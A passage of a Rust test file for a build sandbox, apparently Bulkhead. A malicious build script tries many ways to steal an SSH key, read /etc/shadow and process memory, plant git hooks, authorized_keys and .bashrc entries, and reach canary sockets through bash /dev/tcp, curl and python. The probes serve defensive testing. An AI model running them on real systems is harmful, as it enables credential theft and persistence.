//! The same theft, the same intrusion, the same call home by every way that we know of (variants of the cases 98 to 104 and
//! 113): what matters is not that the plain way is closed but that none is open.

use std::collections::BTreeSet;
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::MetadataExt as _;

use bulkhead_test_support::CrateBuilder;

use super::arena::Arena;

/// What all of them need: `way(NAME, PROBE)` notes the name in `$OUT_DIR/report` if the probe gives `true`.
const PRELUDE: &str = r#"
#![allow(unused)]
use std::ffi::CString;
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _, symlink};
use std::path::Path;
use std::process::{Command, Stdio};
unsafe extern "C" {
    fn syscall(number: i64, ...) -> i64;
    fn mkfifo(path: *const std::ffi::c_char, mode: u32) -> i32;
    fn utimes(path: *const std::ffi::c_char, times: *const i64) -> i32;
    fn setxattr(path: *const std::ffi::c_char, name: *const std::ffi::c_char, value: *const u8, size: usize, flags: i32) -> i32;
    fn getppid() -> i32;
    fn kill(pid: i32, signal: i32) -> i32;
    fn socket(family: i32, kind: i32, protocol: i32) -> i32;
    fn shmat(id: i32, place: *const u8, flags: i32) -> *mut u8;
    fn ptrace(request: i32, pid: i32, place: usize, data: usize) -> i64;
    fn process_vm_readv(pid: i32, own: *const [usize; 2], owns: u64, other: *const [usize; 2], others: u64, flags: u64) -> isize;
    fn name_to_handle_at(folder: i32, path: *const std::ffi::c_char, handle: *mut Handle, mount: *mut i32, flags: i32) -> i32;
    fn open_by_handle_at(mount: i32, handle: *mut Handle, flags: i32) -> i32;
    fn inotify_init() -> i32;
    fn inotify_add_watch(queue: i32, path: *const std::ffi::c_char, mask: u32) -> i32;
    fn klogctl(action: i32, buffer: *mut u8, length: i32) -> i32;
    fn getpriority(which: i32, who: u32) -> i32;
    fn setpriority(which: i32, who: u32, priority: i32) -> i32;
    fn renameat2(from: i32, old: *const std::ffi::c_char, to: i32, new: *const std::ffi::c_char, flags: u32) -> i32;
}
#[repr(C)]
struct Handle { length: u32, kind: i32, bytes: [u8; 128] }
/// The text behind a descriptor, from its beginning.
fn behind(descriptor: i64) -> Option<String> {
    use std::os::{fd::FromRawFd as _, unix::fs::FileExt as _};
    if descriptor < 0 { return None; }
    let file = unsafe { std::fs::File::from_raw_fd(descriptor as i32) };
    let mut bytes = vec![0; 1 << 16];
    let length = file.read_at(&mut bytes, 0).ok()?;
    Some(String::from_utf8_lossy(&bytes[..length]).into_owned())
}
/// The file with this number on the file system that `OUT_DIR` is on, whoever may see its name.
fn numbered(inode: u32) -> Option<String> {
    let mut handle = Handle { length: 128, kind: 0, bytes: [0; 128] };
    let (folder, mut mount) = (std::fs::File::open(out("")).ok()?, 0);
    if unsafe { name_to_handle_at(-100, c(&out("")).as_ptr(), &mut handle, &mut mount, 0) } != 0 { return None; }
    handle.bytes[..4].copy_from_slice(&inode.to_ne_bytes());
    handle.bytes[4..8].fill(0);
    behind(unsafe { open_by_handle_at(folder.as_raw_fd(), &mut handle, 0) }.into())
}
fn opens(path: &str, write: bool) -> bool {
    std::fs::File::options().read(!write).write(write).custom_flags(0o4000).open(path).is_ok()
}
/// The disks of the machine.
fn disks() -> Vec<String> {
    let names = std::fs::read_dir("/dev").into_iter().flatten().flatten().map(|entry| entry.path().display().to_string());
    names.filter(|name| ["vd", "sd", "nvme", "dm-", "loop"].iter().any(|start| name.starts_with(&format!("/dev/{start}")))).collect()
}
fn c(text: &str) -> CString { CString::new(text).unwrap() }
fn out(name: &str) -> String { format!("{}/{name}", std::env::var("OUT_DIR").unwrap()) }
fn way(name: &str, probe: impl FnOnce() -> bool + std::panic::UnwindSafe) {
    let works = std::panic::catch_unwind(probe).unwrap_or(false);
    if works {
        let mut report = std::fs::File::options().create(true).append(true).open(out("report")).unwrap();
        writeln!(report, "{name}").unwrap();
    }
}
fn loot(text: Option<String>) -> bool { text.is_some_and(|text| text.contains("s3cr3t")) }
fn read(path: &str) -> Option<String> {
    let mut bytes = Vec::new();
    std::fs::File::open(path).ok()?.take(1 << 20).read_to_end(&mut bytes).ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}
fn run(program: &str, arguments: &[&str]) -> Option<String> {
    let output = Command::new(program).args(arguments).stdin(Stdio::null()).output().ok()?;
    Some(String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned())
}
"#;

/// Every way to the content of a file, and to secrets that lie in no file.
const READING: &str = r##"
fn main() {
    let secret = "{SECRET}";
    way("open", || loot(read(secret)));
    way("own root", || loot(read(&format!("/proc/self/root{secret}"))));
    way("root of the first process", || loot(read(&format!("/proc/1/root{secret}"))));
    way("root of the parent", || loot(read(&format!("/proc/{}/root{secret}", unsafe { getppid() }))));
    way("upwards", || loot(read(&format!("{}{secret}", "../".repeat(30)))));
    way("doubled slashes", || loot(read(&secret.replace('/', "//./"))));
    way("a link", || { symlink(secret, out("l")).unwrap(); let got = loot(read(&out("l"))); std::fs::remove_file(out("l")); got });
    way("a link to a folder", || {
        let path = Path::new(secret);
        symlink(path.parent().unwrap(), out("d")).unwrap();
        let got = loot(read(&format!("{}/{}", out("d"), path.file_name().unwrap().to_str().unwrap())));
        std::fs::remove_file(out("d"));
        got
    });
    way("a hard link", || { std::fs::hard_link(secret, out("h")).unwrap(); let got = loot(read(&out("h"))); std::fs::remove_file(out("h")); got });
    way("a copy", || { std::fs::copy(secret, out("c")).unwrap(); let got = loot(read(&out("c"))); std::fs::remove_file(out("c")); got });
    way("moved here", || { std::fs::rename(secret, out("m")).unwrap(); let got = loot(read(&out("m"))); std::fs::rename(out("m"), secret); got });
    way("cat", || loot(run("/bin/cat", &[secret])));
    way("a shell", || loot(run("/bin/sh", &["-c", &format!("cat < {secret}")])));
    way("the preprocessor", || loot(run("cc", &["-E", "-x", "c", secret])));
    way("an assembler", || {
        std::fs::write(out("a.s"), format!(".incbin \"{secret}\"\n")).unwrap();
        run("cc", &["-c", &out("a.s"), "-o", &out("a.o")]);
        loot(read(&out("a.o")))
    });
    way("an archiver", || { run("ar", &["r", &out("a.a"), secret]); loot(read(&out("a.a"))) });
    way("tar", || loot(run("tar", &["cf", "-", secret])));
    way("a program started long after", || {
        run("/bin/sh", &["-c", &format!("setsid /bin/sh -c 'sleep 0.2; cat {secret} > {}' & sleep 0.6", out("late"))]);
        loot(read(&out("late")))
    });
    way("names in the folder", || std::fs::read_dir(Path::new(secret).parent().unwrap()).unwrap().count() > 0);
    way("environment", || std::env::vars().any(|(_, value)| value.contains("s3cr3t")));
    way("environment of processes", || std::fs::read_dir("/proc").unwrap().flatten()
        .any(|entry| loot(read(&format!("{}/environ", entry.path().display())))));
    way("descriptors of processes", || std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
        std::fs::read_dir(entry.path().join("fd")).into_iter().flatten().flatten()
            .any(|fd| std::fs::metadata(fd.path()).is_ok_and(|it| it.is_file()) && loot(read(&fd.path().display().to_string())))
    }));
    for fd in 3..1024 {
        if let Ok(target) = std::fs::read_link(format!("/proc/self/fd/{fd}")) {
            // The pipe of the jobserver is what `cc` and `make` take turns by.
            way(&format!("descriptor of {}", target.display()), || !target.to_string_lossy().starts_with("pipe:"));
        }
    }
    way("the project", || loot(read("{PROJECT}/.env")));
    way("openat2", || {
        let (path, how) = (c(secret), [0u64; 3]);
        loot(behind(unsafe { syscall(437, -100i64, path.as_ptr(), how.as_ptr(), 24usize) }))
    });
    way("the number of a file", || loot(numbered({INODE})));
    way("memory of a process", || {
        let mut bytes = [0u8; 6];
        let (own, other) = ([bytes.as_mut_ptr() as usize, 6], [{ADDRESS}usize, 6]);
        unsafe { process_vm_readv({PID}, &own, 1, &other, 1, 0) == 6 && bytes == *b"s3cr3t" }
    });
    way("memory of a process by its file", || {
        use std::os::unix::fs::FileExt as _;
        let mut bytes = [0u8; 6];
        std::fs::File::open("/proc/{PID}/mem").unwrap().read_exact_at(&mut bytes, {ADDRESS}).is_ok() && bytes == *b"s3cr3t"
    });
    way("a descriptor of a process", || {
        let process = unsafe { syscall(434, {PID}i64, 0i64) };
        loot(behind(unsafe { syscall(438, process, {DESCRIPTOR}i64, 0i64) }))
    });
    way("a descriptor of a process by its file", || loot(read("/proc/{PID}/fd/{DESCRIPTOR}")));
    way("root of a process", || loot(read(&format!("/proc/{PID}/root{secret}"))));
    // Keys that the kernel keeps for the user.
    way("a key of the user", || {
        let mut bytes = [0u8; 64];
        let key = unsafe { syscall({KEYCTL}, 10i64, -4i64, c("user").as_ptr(), c("{KEY}").as_ptr(), 0i64) };
        key > 0 && unsafe { syscall({KEYCTL}, 11i64, key, bytes.as_mut_ptr(), 64i64) } > 0 && bytes.starts_with(b"s3cr3t")
    });
    way("events of a process", || {
        // A software event (task clock), as `perf stat -p` counts it.
        let mut attributes = [0u32; 32];
        (attributes[0], attributes[1], attributes[2]) = (1, 128, 1);
        unsafe { syscall({PERF}, attributes.as_ptr(), {PID}i64, -1i64, -1i64, 0i64) >= 0 }
    });
    way("a comparison with a process", || unsafe { syscall({KCMP}, std::process::id() as i64, {PID}i64, 1i64, 0i64, 0i64) >= 0 });
    way("a ring of requests", || unsafe { syscall(425, 8i64, [0u64; 15].as_mut_ptr()) >= 0 });
    way("a debugger", || unsafe { ptrace(0x4206, {PID}, 0, 0) } == 0);
    way("namespaces of a process", || opens("/proc/{PID}/ns/mnt", false) && std::fs::read_link("/proc/{PID}/ns/mnt").ok() != std::fs::read_link("/proc/self/ns/mnt").ok());
    way("its size", || std::fs::metadata(secret).is_ok());
    way("a watch", || unsafe { inotify_add_watch(inotify_init(), c(secret).as_ptr(), 0xfff) } >= 0);
    way("memory of the machine", || ["/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/port"].iter().any(|path| opens(path, false)));
    way("what the kernel says", || opens("/dev/kmsg", false) || unsafe { klogctl(3, vec![0u8; 1 << 16].as_mut_ptr(), 1 << 16) } > 0);
    way("a disk", || disks().iter().any(|disk| opens(disk, false)));
    way("what others type", || std::fs::read_dir("/dev/input").is_ok_and(|entries| entries.flatten().any(|it| opens(&it.path().display().to_string(), false))));
    way("passwords", || read("/etc/shadow").is_some());
    way("a bind mount", || {
        std::fs::create_dir_all(out("mnt"));
        loot(run("unshare", &["-rm", "/bin/sh", "-c", &format!("mount --bind {} {} && cat {}/*", Path::new(secret).parent().unwrap().display(), out("mnt"), out("mnt"))]))
    });
    way("other sources", || Path::new("{PROJECT}/src/main.rs").exists());
}
"##;

/// Every way to leave something outside.
const WRITING: &str = r##"
fn main() {
    let place = "{OUTSIDE}/neighbour/src";
    let victim = format!("{place}/lib.rs");
    let new = |name: &str| format!("{place}/{name}");
    way("a new file", || std::fs::write(new("new"), "x").is_ok());
    way("an old file", || std::fs::write(&victim, "x").is_ok());
    way("appended", || std::fs::File::options().append(true).open(&victim).unwrap().write_all(b"x").is_ok());
    way("shortened", || std::fs::File::options().write(true).open(&victim).unwrap().set_len(1).is_ok());
    way("own root", || std::fs::write(format!("/proc/self/root{}", new("root")), "x").is_ok());
    way("a link", || { symlink(place, out("w")).unwrap(); let done = std::fs::write(out("w/link"), "x").is_ok(); std::fs::remove_file(out("w")); done });
    way("a folder", || std::fs::create_dir(new("dir")).is_ok());
    way("moved", || { std::fs::write(out("x"), "x").unwrap(); std::fs::rename(out("x"), new("moved")).is_ok() });
    way("linked", || { std::fs::write(out("y"), "x").unwrap(); std::fs::hard_link(out("y"), new("linked")).is_ok() });
    way("a symbolic link", || symlink("/x", new("symlink")).is_ok());
    way("a pipe", || unsafe { mkfifo(c(&new("fifo")).as_ptr(), 0o600) } == 0);
    way("a socket", || std::os::unix::net::UnixListener::bind(new("socket")).is_ok());
    way("mode", || std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o777)).is_ok());
    way("mode of a folder", || std::fs::set_permissions(place, std::fs::Permissions::from_mode(0o777)).is_ok());
    way("times", || unsafe { utimes(c(&victim).as_ptr(), std::ptr::null()) } == 0);
    way("attributes", || unsafe { setxattr(c(&victim).as_ptr(), c("user.x").as_ptr(), b"x".as_ptr(), 1, 0) } == 0);
    way("an unnamed file", || {
        let file = std::fs::File::options().write(true).custom_flags(0o20200000).open(place).unwrap();
        std::fs::hard_link(format!("/proc/self/fd/{}", file.as_raw_fd()), new("tmpfile"));
        true
    });
    way("exchanged", || { std::fs::write(out("z"), "x").unwrap(); unsafe { renameat2(-100, c(&out("z")).as_ptr(), -100, c(&victim).as_ptr(), 2) == 0 } });
    way("through a second name", || { std::fs::hard_link(&victim, out("v")).unwrap(); std::fs::write(out("v"), "x").is_ok() });
    way("memory of System V", || { let place = unsafe { shmat({SEGMENT}, std::ptr::null(), 0) }; place as isize != -1 && { unsafe { *place = 1 }; true } });
    way("messages of System V", || unsafe { syscall({MSGSND}, {QUEUE}i64, [1i64, 1i64].as_ptr(), 8i64, 0o4000i64) == 0 });
    way("a lock of System V", || unsafe { syscall({SEMCTL}, {SEMAPHORE}i64, 0i64, 16i64, 1i64) == 0 });
    way("memory of a process", || opens("/proc/{PID}/mem", true));
    way("memory of the first process", || std::process::id() != 1 && opens("/proc/1/mem", true));
    way("memory of the parent", || unsafe { getppid() } > 1 && opens(&format!("/proc/{}/mem", unsafe { getppid() }), true));
    way("memory of the machine", || ["/dev/mem", "/dev/kmem", "/dev/port"].iter().any(|path| opens(path, true)));
    way("what the kernel says", || opens("/dev/kmsg", true));
    way("a disk", || disks().iter().any(|disk| opens(disk, true)));
    way("a terminal", || opens("/dev/tty", true) || opens("/dev/console", true) || opens("/dev/tty1", true));
    way("how a process is chosen", || opens("/proc/{PID}/oom_score_adj", true));
    way("priority", || unsafe { setpriority(0, {PID}, getpriority(0, {PID})) } == 0);
    way("limits", || unsafe { syscall({PRLIMIT}, {PID}i64, 7i64, 0usize, [0u64; 2].as_mut_ptr()) } == 0);
    way("signals by a descriptor", || unsafe { syscall(424, syscall(434, {PID}i64, 0i64), 0i64, 0usize, 0i64) } == 0);
    way("removed", || std::fs::remove_file(&victim).is_ok());
    way("the project", || std::fs::write("{PROJECT}/src/evil.rs", "x").is_ok());
    way("hooks", || { std::fs::create_dir_all("{PROJECT}/.git/hooks").is_ok() && std::fs::write("{PROJECT}/.git/hooks/pre-commit", "x").is_ok() });
    way("configuration", || { std::fs::create_dir_all("{PROJECT}/.cargo").is_ok() && std::fs::write("{PROJECT}/.cargo/config.toml", "").is_ok() });
    way("a workflow", || std::fs::create_dir_all("{PROJECT}/.github/workflows").is_ok());
    way("the lockfile", || std::fs::File::options().append(true).open("{PROJECT}/Cargo.lock").is_ok());
    way("the profile of the shell", || std::fs::File::options().append(true).open("{OUTSIDE}/home/.bashrc").is_ok());
    way("keys", || std::fs::write("{OUTSIDE}/home/.ssh/authorized_keys", "x").is_ok());
    way("the package itself", || std::fs::write("src/evil.rs", "x").is_ok());
    way("the package's folder", || std::fs::set_permissions(".", std::fs::Permissions::from_mode(0o777)).is_ok());
    way("beside the package", || std::fs::write("../evil", "x").is_ok());
    way("beside the output", || std::fs::write(out("../evil"), "x").is_ok());
    way("the target folder", || std::fs::write("{PROJECT}/target/debug/evil", "x").is_ok());
    way("other units", || std::fs::write("{PROJECT}/target/debug/deps/evil", "x").is_ok());
    way("records", || std::fs::create_dir_all("{PROJECT}/target/debug/.fingerprint/evil").is_ok());
    way("the cache of the toolchain", || std::fs::write(format!("{}/bin/evil", std::env::var("CARGO_HOME").unwrap_or("{HOME}/.cargo".into())), "x").is_ok());
    way("temporary files for all", || std::fs::write("/var/tmp/bulkhead-attack-evil", "x").is_ok());
    way("shared memory", || { std::fs::write("/dev/shm/bulkhead-attack-evil", "x").is_ok() });
    way("settings of the kernel", || std::fs::File::options().write(true).open("/proc/sys/kernel/hostname").is_ok());
    way("control groups", || std::fs::create_dir("/sys/fs/cgroup/bulkhead-attack-evil").is_ok());
    way("the system", || std::fs::write("/etc/bulkhead-attack-evil", "x").is_ok());
    way("signals", || unsafe { kill({PID}, 0) } == 0);
    way("signals to a group of processes", || unsafe { kill(-{GROUP}, 0) } == 0);
    way("how the machine remembers crashes", || opens("/proc/sys/kernel/core_pattern", true));
    way("the keys of the administrator", || opens("/proc/sysrq-trigger", true));
    way("programs by their first bytes", || opens("/proc/sys/fs/binfmt_misc/register", true));
    way("programs of the kernel", || opens("/proc/sys/kernel/modprobe", true) || opens("/sys/kernel/uevent_helper", true));
}
"##;

/// Every way to be heard.
const CALLING: &str = r##"
fn main() {
    use std::net::*;
    use std::os::linux::net::SocketAddrExt as _;
    use std::os::unix::net::{UnixDatagram, UnixStream};
    let limit = std::time::Duration::from_millis(300);
    let (tcp, udp) = ({TCP}u16, {UDP}u16);
    for address in ["127.0.0.1", "127.0.0.2", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]"] {
        way(&format!("tcp {address}"), || TcpStream::connect_timeout(&format!("{address}:{tcp}").parse().unwrap(), limit).is_ok());
    }
    way("localhost", || TcpStream::connect(("localhost", tcp)).is_ok());
    way("udp", || UdpSocket::bind("127.0.0.1:0").unwrap().send_to(b"x", ("127.0.0.1", udp)).is_ok());
    way("broadcast", || { let it = UdpSocket::bind("0.0.0.0:0").unwrap(); it.set_broadcast(true); it.send_to(b"x", ("255.255.255.255", udp)).is_ok() });
    way("multicast", || UdpSocket::bind("0.0.0.0:0").unwrap().send_to(b"x", ("224.0.0.1", udp)).is_ok());
    way("a name", || ("example.invalid", 80).to_socket_addrs().is_ok());
    way("a server of names", || { let it = UdpSocket::bind("0.0.0.0:0").unwrap(); it.send_to(b"x", ("192.0.2.1", 53)).is_ok() });
    way("unix", || UnixStream::connect("{SOCKET}").is_ok());
    way("unix by a link", || { symlink("{OUTSIDE}", out("s")).unwrap(); let it = UnixStream::connect(out("s/socket")).is_ok(); std::fs::remove_file(out("s")); it });
    way("unix by root", || UnixStream::connect("/proc/self/root{SOCKET}").is_ok());
    way("unix datagram", || UnixDatagram::unbound().unwrap().connect("{SOCKET}").is_ok());
    way("abstract", || UnixStream::connect_addr(&std::os::unix::net::SocketAddr::from_abstract_name("{ABSTRACT}").unwrap()).is_ok());
    // Families that lead past the addresses of IP: packets, the hypervisor, radios, ciphers of the kernel.
    for family in [17, 40, 31, 29, 38, 41, 44, 15] {
        way(&format!("family {family}"), || [1, 2, 3, 5].iter().any(|kind| unsafe { socket(family, *kind, 0) } >= 0));
    }
    // Addresses and interfaces may be asked for; all else that the kernel says and takes this way may not.
    for protocol in [9, 12, 15, 16, 21] {
        way(&format!("messages of the kernel {protocol}"), || unsafe { socket(16, 3, protocol) } >= 0);
    }
    way("raw", || unsafe { socket(2, 3, 1) } >= 0);
    way("interfaces", || std::fs::read_dir("/sys/class/net").unwrap().flatten().any(|it| it.file_name() != "lo"));
    way("a shell", || run("bash", &["-c", &format!("echo x > /dev/tcp/127.0.0.1/{tcp} && echo sent")]).is_some_and(|it| it.contains("sent")));
    way("curl", || Command::new("curl").args(["-m", "1", "-so", "/dev/null", "--noproxy", "*", &format!("telnet://127.0.0.1:{tcp}")]).stdin(Stdio::null()).status().is_ok_and(|it| it.code() != Some(7) && it.code() != Some(6)));
    way("python", || run("python3", &["-c", &format!("import socket; socket.create_connection(('127.0.0.1', {tcp})); print('sent')")]).is_some_and(|it| it.ends_with("sent\n")));
    way("the control daemon", || ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"].iter().any(|path| UnixStream::connect(path).is_ok()));
}
"##;

fn filled(arena: &Arena, ways: &str) -> String {
    let outside = arena.outside().display().to_string();
    let text = format!("{PRELUDE}{ways}")
        .replace("{SECRET}", &arena.home().join(".ssh/id_ed25519").display().to_string())
        .replace("{OUTSIDE}", &outside)
        .replace("{HOME}", &arena.home().display().to_string())
        .replace("{PROJECT}", &arena.stage.project.root().display().to_string())
        .replace("{SOCKET}", &arena.canaries.socket().display().to_string());
    text.replace("{ABSTRACT}", arena.canaries.abstract_name())
        .replace("{TCP}", &arena.canaries.tcp_port().to_string())
        .replace("{UDP}", &arena.canaries.udp_port().to_string())
        .replace("{PID}", &std::process::id().to_string())
        .replace("{GROUP}", &rustix::process::getpgrp().as_raw_nonzero().to_string())
        .replace("{PRLIMIT}", if cfg!(target_arch = "x86_64") { "302i64" } else { "261i64" })
        .replace("{KEYCTL}", if cfg!(target_arch = "x86_64") { "250i64" } else { "219i64" })
        .replace("{PERF}", if cfg!(target_arch = "x86_64") { "298i64" } else { "241i64" })
        .replace("{KCMP}", if cfg!(target_arch = "x86_64") { "312i64" } else { "272i64" })
        .replace("{MSGSND}", if cfg!(target_arch = "x86_64") { "69i64" } else { "189i64" })
        .replace("{SEMCTL}", if cfg!(target_arch = "x86_64") { "66i64" } else { "191i64" })
}

/// What another process of the user has in memory.
static REMEMBERED: &[u8] = b"s3cr3t";

/// Something that processes share by a number (memory, messages, a semaphore), which everybody may write, for the time of a test.
struct Shared {
    kind: &'static str,
    number: String,
}

impl Shared {
    fn new(kind: &'static str, size: &[&str]) -> Shared {
        let made = std::process::Command::new("ipcmk").arg(kind).args(size).args(["-p", "0666"]).output().unwrap();
        let made = String::from_utf8(made.stdout).unwrap();
        Shared { kind, number: made.split_whitespace().last().expect("an identifier").to_owned() }
    }
}

impl Drop for Shared {
    fn drop(&mut self) {
        let _ = std::process::Command::new("ipcrm").args([&self.kind.to_lowercase(), &self.number]).status();
    }
}

/// A key that the kernel keeps for the user, who may read it; none where there is no Python to ask for one. Its name.
struct Key(String);

impl Key {
    fn new(arena: &Arena) -> Key {
        let key = Key(format!("bulkhead-attack-{}", arena.canaries.tcp_port()));
        key.ask("key = call(add, b'user', name, b's3cr3t', 6, -4); call(keyctl, 5, key, 0x3f3f0000)");
        key
    }

    fn ask(&self, what: &str) {
        let numbers = if cfg!(target_arch = "x86_64") { "248, 250" } else { "217, 219" };
        let script = format!(
            "import ctypes\ncall = ctypes.CDLL(None).syscall\nname = b'{}'\nadd, keyctl = {numbers}\n{what}",
            self.0
        );
        let _ = std::process::Command::new("python3").args(["-c", &script]).status();
    }
}

impl Drop for Key {
    fn drop(&mut self) {
        self.ask("call(keyctl, 21, call(keyctl, 10, -4, b'user', name, 0))");
    }
}

/// Some systems let only root look into processes that it has not started.
fn users_see_their_processes() -> bool {
    let scope = std::fs::read_to_string("/proc/sys/kernel/yama/ptrace_scope").unwrap_or_default();
    rustix::process::geteuid().is_root() || ["", "0"].contains(&scope.trim())
}

/// The ways that were open to the last build.
fn open_ways(arena: &Arena) -> BTreeSet<String> {
    let target = arena.stage.project.path("target");
    let reports = super::storage::files(&target, "report", "");
    reports
        .iter()
        .flat_map(|path| std::fs::read_to_string(path).unwrap().lines().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// A script that tries everything, as the build script of a package from the registry. Under Bulkhead, `harmless` may stay.
#[track_caller]
fn check(ways: &str, bites: &[&str], harmless: &[&str]) {
    let arena = Arena::new("evil = \"1\"", "fn main() { evil::new() }");
    let (open, segment) =
        (std::fs::File::open(arena.home().join(".ssh/id_ed25519")).unwrap(), Shared::new("-M", &["64"]));
    let (queue, semaphore, key) = (Shared::new("-Q", &[]), Shared::new("-S", &["1"]), Key::new(&arena));
    let script = filled(&arena, ways)
        .replace("{DESCRIPTOR}", &open.as_raw_fd().to_string())
        .replace("{INODE}", &open.metadata().unwrap().ino().to_string())
        .replace("{ADDRESS}", &REMEMBERED.as_ptr().addr().to_string())
        .replace("{QUEUE}", &queue.number)
        .replace("{SEMAPHORE}", &semaphore.number)
        .replace("{KEY}", &key.0)
        .replace("{SEGMENT}", &segment.number);
    let package = CrateBuilder::new("evil", "1.0.0").file("src/lib.rs", "pub fn new() {}\n");
    arena.stage.registry.publish(package.build_script(&script));
    let outcome = arena.bulkhead(&["build"]);
    let open = open_ways(&arena);
    arena.assert_unharmed(&outcome);
    outcome.assert_success();
    for planted in [".git", ".github", ".cargo", "src/evil.rs", "target/debug/evil", "target/debug/.fingerprint/evil"] {
        assert!(!arena.stage.project.path(planted).exists(), "{planted} was left: {outcome}");
    }
    for root in [arena.stage.project.outside(), &arena.stage.home.bulkhead_home()] {
        let left = super::storage::files(root, "evil", "");
        assert!(!left.iter().any(|path| path.ends_with("evil") && path.is_file()), "{left:?}");
    }
    let open: Vec<_> = open.iter().filter(|way| !harmless.contains(&way.as_str())).collect();
    assert!(open.is_empty(), "open: {open:?}\n{outcome}");
    arena.clear();
    // Last, since it leaves nothing as it was.
    let theirs = arena.cargo(&["build"]);
    let open = open_ways(&arena);
    for way in bites.iter().filter(|way| !way.contains("of a process") || users_see_their_processes()) {
        assert!(open.contains(*way), "{way} does not bite under cargo: {open:?} {theirs}");
    }
}

/// Variants of attacks 98 and 101.
#[test]
fn case_098_no_way_leads_to_a_secret() {
    check(
        READING,
        &[
            "open",
            "own root",
            "a link",
            "a link to a folder",
            "a copy",
            "cat",
            "a shell",
            "the preprocessor",
            "an assembler",
            "an archiver",
            "a program started long after",
            "names in the folder",
            "environment",
            "environment of processes",
            "the project",
            "other sources",
            "openat2",
            "memory of a process",
            "memory of a process by its file",
            "a descriptor of a process",
            "a descriptor of a process by its file",
            "root of a process",
            "its size",
            "a watch",
        ],
        &[],
    );
}

/// Variants of attacks 103 and 104.
#[test]
fn case_103_no_way_leaves_anything_outside() {
    check(
        WRITING,
        &[
            "a new file",
            "an old file",
            "appended",
            "shortened",
            "own root",
            "a link",
            "a folder",
            "moved",
            "linked",
            "a symbolic link",
            "a pipe",
            "a socket",
            "mode",
            "times",
            "removed",
            "the project",
            "hooks",
            "configuration",
            "a workflow",
            "the lockfile",
            "keys",
            "exchanged",
            "through a second name",
            "memory of System V",
            "messages of System V",
            "a lock of System V",
            "signals to a group of processes",
            "memory of a process",
            "how a process is chosen",
            "priority",
            "limits",
            "signals by a descriptor",
            "the package itself",
            "the target folder",
            "other units",
        ],
        // The project lies in `/tmp`, of which every process has its own: what it makes there is gone with it.
        &[
            "a workflow",
            "beside the output",
            "beside the package",
            "configuration",
            "hooks",
            "records",
            "the target folder",
        ],
    );
    let _ = std::fs::remove_file("/var/tmp/bulkhead-attack-evil");
    let _ = std::fs::remove_file("/etc/bulkhead-attack-evil");
    let _ = std::fs::remove_file("/dev/shm/bulkhead-attack-evil");
    let _ = std::fs::remove_dir("/sys/fs/cgroup/bulkhead-attack-evil");
}

/// Variants of attack 99.
#[test]
fn case_099_no_way_is_heard_outside() {
    check(CALLING, &["tcp 127.0.0.1", "localhost", "udp", "unix", "unix by a link", "abstract", "a shell"], &[]);
}

/// The jobserver's pipe is shared by all: whoever spoils it makes nobody wait for ever.
#[test]
fn case_112_a_spoilt_jobserver_stops_nobody() {
    const SPOIL: &str = r#"
fn main() {
    unsafe extern "C" { fn fcntl(fd: i32, command: i32, argument: i32) -> i32; }
    let flags = std::env::var("CARGO_MAKEFLAGS").unwrap();
    let auth = flags.split_whitespace().find_map(|word| word.strip_prefix("--jobserver-auth=")).unwrap();
    let (read, write) = auth.split_once(',').unwrap();
    use std::os::fd::FromRawFd as _;
    let read_fd: i32 = read.parse().unwrap();
    let write_fd: i32 = write.parse().unwrap();
    if "{HOW}" != "flags" { unsafe { fcntl(read_fd, 4, 2048); fcntl(write_fd, 4, 2049); } }
    let mut read = unsafe { std::fs::File::from_raw_fd(read_fd) };
    let mut write = unsafe { std::fs::File::from_raw_fd(write_fd) };
    match "{HOW}" {
        "drain" => while read.read(&mut [0; 1]).is_ok_and(|length| length > 0) {},
        "fill" => while write.write(&[b'+'; 512]).is_ok() {},
        _ => unsafe { fcntl(read_fd, 4, 2048); fcntl(write_fd, 4, 2049); },
    }
    if "{HOW}" != "flags" { unsafe { fcntl(read_fd, 4, 0); fcntl(write_fd, 4, 1); } }
}
"#;
    for how in ["drain", "fill", "flags"] {
        let names: Vec<String> = (0..6).map(|index| format!("crowd{index}")).collect();
        let lines: Vec<String> = names.iter().map(|name| format!("{name} = \"1\"\n")).collect();
        let arena = Arena::new(&format!("evil = \"1\"\n{}", lines.concat()), "fn main() { evil::new() }");
        let script = format!("{PRELUDE}{}", SPOIL.replace("{HOW}", how));
        let package = |name: &str| CrateBuilder::new(name, "1.0.0").file("src/lib.rs", "pub fn new() {}\n");
        arena.stage.registry.publish(package("evil").build_script(&script));
        for name in &names {
            arena.stage.registry.publish(package(name).build_script(&script));
        }
        let limit = std::time::Duration::from_secs(60);
        let outcome = arena.command(crate::stage::BULKHEAD, &["build", "-j", "4"]).timeout(limit).run();
        arena.assert_unharmed(&outcome);
        outcome.assert_success();
    }
}

/// Text that the compiler itself reads or passes on, without any code that runs: (what, the library's source, the build
/// script's body). `SECRET` is a file, `{SECRET}` its path.
const COMPILED: [(&str, &str, &str); 13] = [
    ("include_str", "pub static LOOT: &str = include_str!(\"{SECRET}\");", ""),
    ("include_bytes", "pub static LOOT: &[u8] = include_bytes!(\"{SECRET}\");", ""),
    ("a relative path", "pub static LOOT: &str = include_str!(\"../../../../../../../../../..{SECRET}\");", ""),
    ("a path by way of /proc", "pub static LOOT: &str = include_str!(\"/proc/self/root{SECRET}\");", ""),
    ("a comment", "#[doc = include_str!(\"{SECRET}\")] pub static LOOT: u8 = 1;", ""),
    ("the project", "pub static LOOT: &str = include_str!(\"{PROJECT}/.env\");", ""),
    ("a module", "#[path = \"{SECRET}\"] mod loot;", ""),
    ("a variable", "pub static LOOT: &str = env!(\"FOO_SECRET\");", ""),
    ("a variable of the cloud", "pub static LOOT: &str = env!(\"AWS_SECRET_ACCESS_KEY\");", ""),
    ("the assembler", "core::arch::global_asm!(\".data\\n.globl loot\\nloot: .incbin \\\"{SECRET}\\\"\");", ""),
    (
        "a link",
        "pub static LOOT: &str = include_str!(concat!(env!(\"OUT_DIR\"), \"/l\"));",
